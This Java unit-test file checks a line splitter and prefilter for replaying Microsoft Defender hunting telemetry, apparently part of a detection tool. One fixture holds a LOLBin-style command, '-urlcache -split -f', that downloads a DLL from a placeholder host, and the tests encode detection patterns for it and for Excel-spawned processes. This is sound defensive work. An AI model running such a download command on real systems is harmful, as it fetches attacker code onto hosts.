package dev.bazahunt.job.replay;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.telemetry.DefenderTable;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;

class LineSplitterTest {
    private static final String BENIGN = "{\"DeviceId\":\"d1\",\"FolderPath\":\"C:\\\\Users\\\\a\\\\CryptnetUrlCache\\\\x\","
            + "\"InitiatingProcessFileName\":\"svchost.exe\",\"FileName\":\"EXCEL.EXE\"}";
    private static final String DOWNLOAD = "{\"DeviceId\":\"d1\",\"InitiatingProcessFileName\":\"x8k2.exe\","
            + "\"InitiatingProcessCommandLine\":\"x8k2.exe -urlcache -split -f http://a.example/p.dll\"}";
    private static final String EXCEL_CHILD = "{\"DeviceId\":\"d1\",\"InitiatingProcessFileName\" : \"Excel.EXE\"}";
    /** Excel writing a file, and Excel starting a process, in Storage envelopes whose category comes last. */
    private static final String EXCEL_WRITES = "{\"properties\":" + EXCEL_CHILD
            + ",\"category\":\"AdvancedHunting-DeviceFileEvents\"}";
    private static final String EXCEL_STARTS = "{\"properties\":" + EXCEL_CHILD
            + ",\"category\":\"AdvancedHunting-DeviceProcessEvents\"}";

    /** What the splitter handed on: line number, bytes, cut; and what it skipped. */
    private record Outcome(List<String> lines, long skipped, long consumed) {}

    /** Splits the rows of a file whose path names {@code tableHint}. */
    private static Outcome split(InputStream in, int maxLineBytes, boolean prefilter, DefenderTable tableHint,
            long alreadyConsumed) throws IOException {
        LineSplitter splitter = new LineSplitter(in, maxLineBytes, prefilter, null, tableHint, 0, Long.MAX_VALUE);
        splitter.skipLines(alreadyConsumed);
        List<String> lines = new ArrayList<>();
        int outcome;
        while ((outcome = splitter.next(Long.MAX_VALUE)) != LineSplitter.END) {
            assertThat(outcome).isEqualTo(LineSplitter.LINE);
            lines.add(splitter.linesConsumed() + (splitter.truncated() ? " cut " : " ")
                    + new String(splitter.copyOfLine(), StandardCharsets.UTF_8));
        }
        return new Outcome(lines, splitter.skippedLines(), splitter.linesConsumed());
    }

    /** Splits a DeviceProcessEvents export: its flat rows are process rows. */
    private static Outcome split(String text, int maxLineBytes, boolean prefilter) throws IOException {
        return split(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), maxLineBytes, prefilter,
                DefenderTable.DEVICE_PROCESS_EVENTS, 0);
    }

    @Test
    void anExcelValueIsHandedOnOnlyInALineThatMayHoldAProcessRow() throws IOException {
        String text = String.join("\n", EXCEL_WRITES, EXCEL_STARTS, EXCEL_CHILD, BENIGN);
        for (DefenderTable hint : new DefenderTable[] {null, DefenderTable.DEVICE_FILE_EVENTS}) {
            Outcome outcome = split(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), 1 << 20, true, hint, 0);
            assertThat(outcome.lines()).as("hint %s", hint).containsExactly("2 " + EXCEL_STARTS);
            assertThat(outcome.skipped()).isEqualTo(3);
        }
        Outcome processExport = split(text, 1 << 20, true);
        assertThat(processExport.lines()).containsExactly("1 " + EXCEL_WRITES, "2 " + EXCEL_STARTS, "3 " + EXCEL_CHILD);
    }

    @Test
    void handsOnEveryLineWithoutThePrefilter() throws IOException {
        Outcome outcome = split(BENIGN + "\r\n\n" + DOWNLOAD + "\n" + "tail", 1 << 20, false);
        assertThat(outcome.lines()).containsExactly("1 " + BENIGN + "\r", "2 ", "3 " + DOWNLOAD, "4 tail");
        assertThat(outcome.skipped()).isZero();
    }

    @Test
    void prefilterHandsOnFindingsAndBrokenLinesAndCountsTheRest() throws IOException {
        String text = String.join("\n", BENIGN, DOWNLOAD, BENIGN, EXCEL_CHILD, "not json", BENIGN, "", BENIGN);
        Outcome outcome = split(text, 1 << 20, true);
        assertThat(outcome.lines()).containsExactly("2 " + DOWNLOAD, "4 " + EXCEL_CHILD, "5 not json", "7 ");
        assertThat(outcome.skipped()).isEqualTo(4);
        assertThat(outcome.consumed()).isEqualTo(8);
    }

    @Test
    void longLinesAreCutAtTheLimitAndTheirRestIsPassedOver() throws IOException {
        String longBenign = "{\"a\":\"" + "b".repeat(300) + "\"}";
        for (boolean prefilter : new boolean[] {false, true}) {
            Outcome outcome = split(longBenign + "\n" + DOWNLOAD + "\n" + longBenign, 100, prefilter);
            assertThat(outcome.lines()).as("prefilter %s", prefilter).containsExactly(
                    "1 cut " + longBenign.substring(0, 100), lineOf(2, DOWNLOAD, 100),
                    "3 cut " + longBenign.substring(0, 100));
        }
    }

    private static String lineOf(int number, String line, int maxLineBytes) {
        return line.length() > maxLineBytes ? number + " cut " + line.substring(0, maxLineBytes) : number + " " + line;
    }

    @Test
    void aRestoredReaderResumesAfterTheLinesItHadConsumed() throws IOException {
        String text = String.join("\n", DOWNLOAD, BENIGN, EXCEL_CHILD, BENIGN, DOWNLOAD);
        Outcome outcome = split(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), 1 << 20, true,
                DefenderTable.DEVICE_PROCESS_EVENTS, 3);
        assertThat(outcome.lines()).containsExactly("5 " + DOWNLOAD);
        assertThat(outcome.skipped()).isEqualTo(1);
    }

    @Test
    void pausesAfterItsByteBudgetOnASkippedLine() throws IOException {
        String text = (BENIGN + "\n").repeat(20_000) + DOWNLOAD;
        LineSplitter splitter = new LineSplitter(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), 1 << 20, true);
        assertThat(splitter.next(1)).isEqualTo(LineSplitter.PAUSED);
        assertThat(splitter.skippedLines()).isEqualTo(splitter.linesConsumed()).isPositive().isLessThan(20_000);
        int outcome;
        while ((outcome = splitter.next(1)) == LineSplitter.PAUSED) {
            // going on
        }
        assertThat(outcome).isEqualTo(LineSplitter.LINE);
        assertThat(splitter.linesConsumed()).isEqualTo(20_001);
        assertThat(splitter.skippedLines()).isEqualTo(20_000);
    }

    /**
     * A line for the fused-scan test, with what the pre-filter's documentation says of it, decided by
     * hand: whether it holds a finding ({@code -urlcache} in any case, {@code "InitiatingProcessFileName"}
     * : {@code "excel.exe"} in any case in a line that names DeviceProcessEvents (the file names no table),
     * or an escape that could spell one), and whether it looks like
     * one complete JSON object (first non-blank byte {@code '{'}, last {@code '}'}).
     */
    private record Piece(String text, boolean finding, boolean oneObject) {
        /** The same piece at the far end of a line four times longer than the splitter's 256 KB read buffer. */
        Piece padded(int padding) {
            return new Piece("{\"pad\":\"" + "p".repeat(padding) + "\",\"x\":" + text + "}", finding, true);
        }

        boolean handedOn() {
            return finding || !oneObject;
        }
    }

    private static final Piece[] PIECES = {
        new Piece(BENIGN, false, true),                        // CryptnetUrlCache and FileName EXCEL.EXE
        new Piece(DOWNLOAD, true, true),                       // -urlcache
        new Piece(EXCEL_CHILD, false, true),                   // "InitiatingProcessFileName" : "Excel.EXE", no table
        new Piece(EXCEL_STARTS, true, true),                   // the same in a process row, named after it
        new Piece(EXCEL_WRITES, false, true),                  // the same in a file row: not an Excel child
        new Piece("{\"a\":\"\\u0041\"}", true, true),         // an escape
        new Piece("{\"a\":\"C:\\\\users\"}", false, true),     // an escaped backslash before u: no escape
        new Piece("", false, false),
        new Piece("garbage", false, false),
        new Piece("{\"a\":1}\r", false, true),                // CR is blank
        new Piece("  {\"b\":\"-URLCACHE\"}  ", true, true),     // case folded, blanks around
        new Piece("{\"truncated\":\"x", false, false)};

    /**
     * The fused scan must decide each line as the pre-filter's documentation says (the verdicts in
     * {@link #PIECES}), however the bytes arrive: in random chunk sizes, with lines longer than the read
     * buffer and findings on its edges.
     */
    @Test
    void fusedScanHandsOnExactlyTheDocumentedLinesWhateverTheChunking() throws IOException {
        SplittableRandom random = new SplittableRandom(7);
        for (int round = 0; round < 40; round++) {
            List<Piece> lines = new ArrayList<>();
            int count = 1 + random.nextInt(300);
            for (int i = 0; i < count; i++) {
                Piece piece = PIECES[random.nextInt(PIECES.length)];
                lines.add(random.nextInt(50) == 0 ? piece.padded((1 << 20) + random.nextInt(5000)) : piece);
            }
            boolean finalNewline = random.nextBoolean();
            String text = String.join("\n", lines.stream().map(Piece::text).toList()) + (finalNewline ? "\n" : "");
            if (!finalNewline && lines.get(lines.size() - 1).text().isEmpty()) {
                // Nothing after the last newline: that is no line.
                lines.remove(lines.size() - 1);
            }
            byte[] bytes = text.getBytes(StandardCharsets.UTF_8);

            List<String> expected = new ArrayList<>();
            long expectedSkipped = 0;
            for (int i = 0; i < lines.size(); i++) {
                if (lines.get(i).handedOn()) {
                    expected.add((i + 1) + " " + lines.get(i).text());
                } else {
                    expectedSkipped++;
                }
            }
            int maxChunk = 1 + random.nextInt(random.nextBoolean() ? 64 : 200_000);
            Outcome outcome = split(new ChunkedInputStream(bytes, maxChunk, random.split()), 4 << 20, true, null, 0);
            assertThat(outcome.lines()).as("round %d, chunks up to %d", round, maxChunk).isEqualTo(expected);
            assertThat(outcome.skipped()).isEqualTo(expectedSkipped);
            assertThat(outcome.consumed()).isEqualTo(lines.size());
        }
    }

    /**
     * Ranges cut anywhere, even inside a line, on its newline or right after it, together hand on every
     * line exactly once, each with its byte offset in the file.
     */
    @Test
    void rangesCutAnywhereYieldEachLineOnceWithItsOffset() throws IOException {
        SplittableRandom random = new SplittableRandom(11);
        String[] pieces = {BENIGN, DOWNLOAD, EXCEL_CHILD, "", "x", "garbage line"};
        for (int round = 0; round < 200; round++) {
            StringBuilder text = new StringBuilder();
            int count = 1 + random.nextInt(20);
            for (int i = 0; i < count; i++) {
                text.append(pieces[random.nextInt(pieces.length)]).append(i == count - 1 && random.nextBoolean() ? "" : "\n");
            }
            // A file's lines: what lies between its newlines, and no empty line after a final newline.
            List<String> expected = new ArrayList<>();
            int lineStart = 0;
            for (int k = 0; k <= text.length(); k++) {
                if (k == text.length() && lineStart == k) {
                    break;
                }
                if (k == text.length() || text.charAt(k) == '\n') {
                    expected.add(lineStart + " " + text.substring(lineStart, k));
                    lineStart = k + 1;
                }
            }
            byte[] bytes = text.toString().getBytes(StandardCharsets.US_ASCII);
            List<Long> cuts = new ArrayList<>(List.of(0L, (long) bytes.length));
            int cutCount = random.nextInt(6);
            for (int c = 0; c < cutCount; c++) {
                cuts.add((long) random.nextInt(bytes.length + 1));
            }
            List<Long> bounds = cuts.stream().distinct().sorted().toList();
            List<String> found = new ArrayList<>();
            for (int r = 0; r + 1 < bounds.size(); r++) {
                long start = bounds.get(r);
                long end = r + 2 == bounds.size() ? Long.MAX_VALUE : bounds.get(r + 1);
                InputStream in = new ByteArrayInputStream(bytes);
                in.skipNBytes(Math.max(0, start - 1));
                LineSplitter splitter = new LineSplitter(in, 1 << 20, false, start, end);
                while (splitter.next(Long.MAX_VALUE) == LineSplitter.LINE) {
                    found.add(splitter.lineOffset() + " " + new String(splitter.copyOfLine(), StandardCharsets.US_ASCII));
                }
            }
            assertThat(found).as("text %s cut at %s", text, bounds).isEqualTo(expected);
        }
    }

    /** Hands out its bytes in random pieces of at most {@code maxChunk}, as gzip and network streams do. */
    private static final class ChunkedInputStream extends InputStream {
        private final byte[] bytes;
        private final int maxChunk;
        private final SplittableRandom random;
        private int position;

        ChunkedInputStream(byte[] bytes, int maxChunk, SplittableRandom random) {
            this.bytes = bytes;
            this.maxChunk = maxChunk;
            this.random = random;
        }

        @Override
        public int read() {
            return position < bytes.length ? bytes[position++] & 0xFF : -1;
        }

        @Override
        public int read(byte[] target, int offset, int length) {
            if (position == bytes.length) {
                return -1;
            }
            int n = Math.min(Math.min(length, bytes.length - position), 1 + random.nextInt(maxChunk));
            System.arraycopy(bytes, position, target, offset, n);
            position += n;
            return n;
        }
    }

    @Test
    void theChunkedStreamHandsOutEveryByte() throws IOException {
        byte[] bytes = new byte[10_000];
        new SplittableRandom(1).nextBytes(bytes);
        assertThat(new ChunkedInputStream(bytes, 7, new SplittableRandom(2)).readAllBytes()).isEqualTo(bytes);
    }
}
